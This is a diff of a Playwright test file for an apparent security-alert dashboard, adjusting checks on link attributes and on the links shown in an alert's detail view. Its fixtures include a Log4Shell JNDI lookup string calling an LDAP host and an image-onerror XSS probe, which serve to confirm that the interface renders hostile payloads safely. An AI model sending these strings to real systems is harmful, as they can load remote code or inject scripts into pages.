@@ -296,7 +296,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       expect(await detail().getByRole('link', { name: 'CVE-2021-44228', exact: true }).getAttribute('href')).toBe(
         'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
       );
-      for (const link of await detail().getByRole('link').all())
+      for (const link of await detail().locator('a[href^="https:"]').all())
         expect(await link.getAttribute('rel')).toContain('noopener');
       expect(await detail().locator('pre.payload').innerText()).toContain('${jndi:ldap://203.0.113.7:1389/a}\\r\\n');
       await detail().getByRole('button', { name: 'Hex' }).click();
@@ -354,7 +354,9 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
         .getByRole('link')
         .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
       const own = `/api/alerts/${hostile.record.event_id}/pcap`;
-      expect(links.filter((link) => link?.startsWith('https://') !== true)).toEqual([own]);
+      // To alerts around it, and its packets.
+      const inside = links.filter((link) => link?.startsWith('https://') !== true);
+      expect(inside.filter((link) => !/^\?alert=[0-9a-f]{40}$/.test(link ?? ''))).toEqual([own]);
       expect(links).toContain('https://example.com/?a=%22b');
       // The list and the facets have it too.
       expect(await page.locator('.rows').innerText()).toContain('<img src=x onerror=');
